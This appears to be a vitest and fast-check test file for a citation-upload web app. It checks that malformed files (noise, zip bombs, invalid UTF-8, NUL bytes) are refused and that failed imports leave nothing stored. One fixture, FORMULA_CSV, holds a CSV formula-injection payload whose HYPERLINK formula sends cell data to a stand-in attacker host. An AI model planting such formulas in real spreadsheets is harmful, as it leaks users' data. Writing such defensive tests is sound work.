import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  extension,
  falseUtf16,
  formatText,
  hugeField,
  invalidUtf8,
  textExtension,
  withNuls,
} from '../helpers/malformed-files.ts';
import { multipart, type FilePart } from '../helpers/multipart.ts';
import { createTestApp, signUp, testDatabases, type TestApp } from '../helpers/test-app.ts';
import { workbookBomb } from '../helpers/zip-files.ts';

/** The same bytes on every run, so a file the server once refused it refuses again. */
const [noise = new Uint8Array()] = fc.sample(fc.uint8Array({ minLength: 2_000, maxLength: 2_000 }), {
  seed: 20261123,
  numRuns: 1,
});
const FORMULA_CSV = 'title,abstract\n"=HYPERLINK(""http://evil.example/?q=""&A1,""Click"")",+SUM(A1:A9)\n@cmd,-2+3\n';

/** Files no reader can make citations of: each must be refused with a message, and nothing stored. */
const REFUSED: { name: string; data: Buffer | string }[] = [
  { name: 'noise.csv', data: Buffer.from(noise) },
  { name: 'noise.ris', data: Buffer.from(noise) },
  { name: 'noise.xml', data: Buffer.from(noise) },
  { name: 'noise.xlsx', data: Buffer.from(noise) },
  { name: 'signed-noise.xlsx', data: Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.from(noise)]) },
  { name: 'bomb.xlsx', data: workbookBomb(1, 600) },
  { name: 'packed-tight.xlsx', data: workbookBomb(50) },
  { name: 'bomb-renamed.xls', data: workbookBomb(50) },
  { name: 'nul.csv', data: 'title,abstract\nA\u0000title,An\u0000abstract\n' },
  {
    name: 'invalid-utf8.xml',
    data: Buffer.concat([
      Buffer.from('<xml><records><record><titles><title>'),
      Buffer.from([0xc3, 0x28, 0xff]),
      Buffer.from('</title>'),
    ]),
  },
  { name: 'unclosed.bib', data: '@article{key, title = {An unclosed title, ' },
];

describe.each(testDatabases())('malformed uploads on $name', (db) => {
  let t: TestApp;
  let cookie: string;
  let userId: number;
  let projectId: number;
  beforeAll(async () => {
    t = await createTestApp(db);
    const signedUp = await signUp(t.app);
    ({ cookie } = signedUp);
    userId = signedUp.user.id;
    projectId = (await createWith('Fuzzed', ['citations.csv'])).json().project.id;
  });
  afterAll(() => t.close());

  async function createWith(name: string, files: FilePart[]) {
    const body = await multipart({ name }, { files });
    return t.app.inject({
      method: 'POST',
      url: '/api/projects',
      headers: { cookie, ...body.headers },
      payload: body.payload,
    });
  }
  async function uploadTo(id: number, files: FilePart[]) {
    const body = await multipart({}, { file: files });
    return t.app.inject({
      method: 'POST',
      url: `/api/projects/${id}/citations`,
      headers: { cookie, ...body.headers },
      payload: body.payload,
    });
  }
  const count = async (sql: string) => Number((await t.orm.em.fork().execute(sql))[0]?.n);
  // This user's only: on PostgreSQL other test files write to the same database meanwhile. What anyone can
  // see: a failed import's rows sit in a hidden project until the purge removes them (tested below).
  const totals = async () => ({
    projects: await count(`select count(*) as n from project where user_id = ${userId} and deleted_at is null`),
    citations: await count(
      `select count(*) as n from citation c join project p on p.id = c.project_id where p.user_id = ${userId} and p.deleted_at is null`,
    ),
  });
  const hiddenRows = () =>
    count(`select count(*) as n from project p where p.user_id = ${userId} and p.deleted_at is not null`);

  it.each(REFUSED.map((file) => [file.name, file] as const))(
    'refuses %s with a 400 and a message, storing nothing',
    async (_, file) => {
      const before = await totals();
      for (const res of [await uploadTo(projectId, [file]), await createWith(`From ${file.name}`, [file])]) {
        expect(res.statusCode, res.body).toBe(400);
        expect(res.json().message).toEqual(expect.stringMatching(/\w/));
      }
      expect(await totals()).toEqual(before);
    },
  );

  it(
    'answers any malformed file with a 4xx and a message and stores nothing, or stores just what it reports',
    { timeout: 180_000 },
    async () => {
      const upload = fc.oneof(
        fc.tuple(fc.uint8Array({ maxLength: 4096 }), extension),
        fc.tuple(formatText, textExtension),
        fc.tuple(fc.oneof(invalidUtf8, falseUtf16), textExtension),
        fc.tuple(withNuls, textExtension),
        { weight: 1, arbitrary: hugeField },
      );
      const property = fc.asyncProperty(upload, async ([content, ext]) => {
        const before = await totals();
        const res = await uploadTo(projectId, [{ name: `fuzzed.${ext}`, data: Buffer.from(content) }]);
        if (res.statusCode === 201) {
          expect(await totals()).toEqual({
            ...before,
            citations: before.citations + res.json().upload_summary.total_citations,
          });
          return;
        }
        expect(res.statusCode, res.body).toBeGreaterThanOrEqual(400);
        expect(res.statusCode, res.body).toBeLessThan(500);
        expect(res.json().message).toEqual(expect.stringMatching(/\w/));
        expect(await totals()).toEqual(before);
      });
      await fc.assert(property, { seed: 20261124, numRuns: 40 });
    },
  );

  it('says why a zip bomb is refused', async () => {
    const res = await uploadTo(projectId, [REFUSED.find((f) => f.name === 'bomb.xlsx')!]);
    expect(res.json().message).toBe(
      'The file could not be read as an Excel workbook (.xlsx): it is too large once unpacked (over 500 MB)',
    );
  });

  it('removes what a failed import had stored, in the background', async () => {
    const good = Array.from({ length: 1_500 }, (_, i) => `Stored before the failure ${i},x`).join('\n');
    // The first file is stored, the second fails: both the new project and the staging of an addition are left hidden.
    const files = [{ name: 'good.csv', data: `title,abstract\n${good}\n` }, REFUSED[0]!];
    for (const res of [await uploadTo(projectId, files), await createWith('Half an import', files)])
      expect(res.statusCode, res.body).toBe(400);
    for (let waited = 0; (await hiddenRows()) > 0 && waited < 20_000; waited += 100)
      await new Promise((r) => setTimeout(r, 100));
    expect(await hiddenRows()).toBe(0);
    expect(await count(`select count(*) as n from citation where title like 'Stored before the failure%'`)).toBe(0);
  });

  it('imports formula-looking cells as the plain text they are', async () => {
    const res = await uploadTo(projectId, [{ name: 'formulas.csv', data: FORMULA_CSV }]);
    expect(res.statusCode, res.body).toBe(201);
    const rows = await t.orm.em
      .fork()
      .execute(
        "select title, abstract from citation where project_id = ? and (title like '=%' or title like '@%') order by id",
        [projectId],
      );
    expect(rows).toEqual([
      { title: '=HYPERLINK("http://evil.example/?q="&A1,"Click")', abstract: '+SUM(A1:A9)' },
      { title: '@cmd', abstract: '-2+3' },
    ]);
  });

  it('imports a CSV whose NUL bytes come after its first 64 KB, dropping them', async () => {
    const rows = Array.from({ length: 2_000 }, (_, i) => `Trial ${i},${'Abstract text '.repeat(3)}`);
    const res = await uploadTo(projectId, [
      { name: 'late-nul.csv', data: `title,abstract\n${rows.join('\n')}\nLate\u0000NUL,x\n` },
    ]);
    expect(res.statusCode, res.body).toBe(201);
    expect(
      await count(`select count(*) as n from citation where project_id = ${projectId} and title = 'LateNUL'`),
    ).toBe(1);
  });
});
